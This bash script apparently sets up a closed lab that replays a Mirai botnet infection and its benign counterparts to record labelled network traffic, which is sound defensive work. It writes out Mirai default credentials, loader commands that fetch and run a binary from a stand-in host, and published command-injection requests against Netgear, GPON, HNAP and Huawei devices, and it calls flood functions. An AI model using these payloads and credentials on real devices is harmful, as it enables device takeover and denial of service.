# shellcheck shell=bash
# shellcheck disable=SC2154,SC2034,SC2016 # shared with home.sh and record; what is typed is for another shell
# The lab's infected device, from the first guess to the flood. Sourced by record. Nothing here can leave the lab, and the
# "malware" is an ELF header with nothing behind it.

bot() { inside camera "$lab_here/bot.py" "$@"; }
serve_ssh() {
    ! listens "$1" 22 || return 0
    printf '%s\n' 'mkdir -p /run/sshd; useradd -m gardener; echo gardener:cactus-ledge-141 | chpasswd' \
        'exec /usr/sbin/sshd -D -e -o MaxStartups=100 -o UseDNS=no -o MaxAuthTries=1 -o KexAlgorithms=curve25519-sha256 \' \
        '  -o HostKeyAlgorithms=ssh-ed25519 -o Ciphers=aes128-ctr -o MACs=hmac-sha2-256' >"$lab_files/$1/ssh.sh"
    packaged_server "$1" sh "$lab_files/$1/ssh.sh" >"$lab_files/sshd.log" 2>&1
    wait_for_port "$1" 22
}
# Some of Mirai's pairs (scanner.c); the last one opens the plug.
mirai_pairs() {
    printf '%s\n' root:vizxv root:admin admin:admin root:888888 root:xmhdipc root:default support:support root:54321 user:user \
        admin:password guest:12345 service:service root:pass root:xc3511
}
guess_telnet() {  # brute-force, default-login, telnet: the camera tries Mirai's list on the plug
    mirai_pairs >"$lab_files/camera/pairs"
    bot guess "$(at plug)" "$lab_files/camera/pairs"
}
sign_in() {  # sign_in DEVICE USER PASSWORD: over SSH, to the hub
    quiet packaged "$1" timeout 30 sshpass -p "$3" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o HostKeyAlgorithms=ssh-ed25519 \
        -o KexAlgorithms=curve25519-sha256 -o Ciphers=aes128-ctr -o MACs=hmac-sha2-256 -o Compression=no "$2@$(at hub)" true
}
guess_ssh() {  # brute-force: the camera tries passwords on the hub, behind SSH's encryption
    serve_ssh hub
    local number
    for number in $(seq 34); do
        sign_in camera gardener "guess$number" &
        [ $((number % 4)) -ne 0 ] || wait $!
        sleep 0.2
    done
    sleep 5
}
ssh_below() {  # nothing: a person mistypes twice, then gets in
    serve_ssh hub
    local password
    for password in wrong-ledge-142 wrong-ledge-143 cactus-ledge-141; do sign_in laptop gardener "$password"; done
}
serve_malware() {
    [ ! -e "$lab_files/outside/www/bins" ] || return 0
    mkdir -p "$lab_files/outside/www/bins"
    { printf '\177ELF\001\001\001\000\000\000\000\000\000\000\000\000\002\000\050\000\001\000\000\000'; head -c 2000 /dev/zero; } \
        >"$lab_files/outside/www/bins/mirai.arm7"
    printf '%s\n' '#!/bin/sh' 'cd /tmp; wget http://203.0.113.66/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7' \
        >"$lab_files/outside/www/bins.sh"
    packaged_server outside in.tftpd --foreground --listen --secure --user root --address 203.0.113.66:69 "$lab_files/outside/www/bins"
    wait_for_port outside 69
}
loader() {  # malware-download, default-login, telnet: what Mirai's loader types, and what the plug then fetches by HTTP and TFTP
    serve_malware
    telnet_to camera plug 'login: ' root 'Password: ' xc3511 '# ' enable '# ' system '# ' shell '# ' sh '# ' \
        '/bin/busybox ECCHI' 'applet not found' 'cd /tmp || cd /var/run || cd /mnt; cd /srv' '# ' \
        '/bin/busybox wget http://203.0.113.66:80/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper' '# ' \
        '/bin/busybox tftp -g -l tftp.arm7 -r mirai.arm7 203.0.113.66' '# ' \
        "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > echo.arm7" '# ' exit '# ' exit
}
malware_script() {  # malware-download: the camera fetches a shell script and what the script names
    serve_malware
    quiet inside camera busybox wget -q -O /dev/null http://203.0.113.66/bins.sh
    quiet inside camera busybox wget -q -O /dev/null http://203.0.113.66/bins/mirai.arm7
}
serve_command() {
    listens outside 2323 || server outside "$lab_here/bot.py" serve 2323 >/dev/null 2>&1
    wait_for_port outside 2323
}
c2_contact() {  # c2-contact: Mirai's greeting, and a heartbeat every minute
    serve_command
    bot report 203.0.113.66 2323 125
}
flood_syn() { bot flood syn 198.51.100.80; }    # flood
flood_ack() { bot flood ack 198.51.100.80; }    # flood
flood_udp() { bot flood udp 198.51.100.80; }    # flood
flood_dns() { bot flood dns 198.51.100.53; }    # flood
flood_gre() { bot flood gre 198.51.100.80; }    # flood
flood_http() {  # flood
    if ! listens outside 8080; then
        mkdir -p "$lab_files/outside/shop"
        echo Closed. >"$lab_files/outside/shop/index.html"
        printf '%s\n' 'server.document-root = "'"$lab_files"'/outside/shop"' 'server.port = 8080' \
            'index-file.names = ("index.html")' 'server.max-keep-alive-requests = 5000' >"$lab_files/outside/lighttpd.conf"
        packaged_server outside lighttpd -D -f "$lab_files/outside/lighttpd.conf" >"$lab_files/lighttpd.log" 2>&1
        wait_for_port outside 8080
    fi
    bot flood http 203.0.113.80
}
request() { quiet web camera --path-as-is --globoff "$@"; }
exploit_attempts() {  # exploit-attempt: published requests of the bots, at a web server at home and at one outside
    serve_camera hub
    local hub
    hub=http://$(at hub):8000
    request "$hub/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.66/bins/mirai.arm7;sh+/tmp/mirai.arm7"
    request "$hub/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.66/bins.sh&curpath=/&currentsetting.htm=1"
    request --data 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.66/bins.sh`&ipv=0' "$hub/GponForm/diag_Form?images/"
    request --header 'SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://203.0.113.66/bins.sh`' --data '' "http://203.0.113.10/HNAP1/"
    request --data '<?xml version="1.0"?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 203.0.113.66 -l /tmp/x -r /bins/mirai.arm7)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>' \
        "http://203.0.113.10/ctrlt/DeviceUpgrade_1"
}
exploit_below() {  # nothing: the same pages as their owners use them
    serve_camera hub
    quiet web laptop "http://$(at hub):8000/HNAP1/"
    quiet web laptop "http://$(at hub):8000/setup.cgi?next_file=index.htm"
    quiet web laptop "http://$(at hub):8000/login.cgi"
}
infected() {  # mirai-scan, default-login, telnet, malware-download, c2-contact, flood: one after the other, one device
    serve_malware
    serve_command
    mirai camera 40 5
    loader
    bot report 203.0.113.66 2323 4
    bot flood syn 198.51.100.80
}
bot_situations=(guess-telnet guess-ssh ssh-below loader malware-script c2-contact flood-syn flood-ack flood-udp flood-dns flood-gre
    flood-http exploit-attempts exploit-below infected)
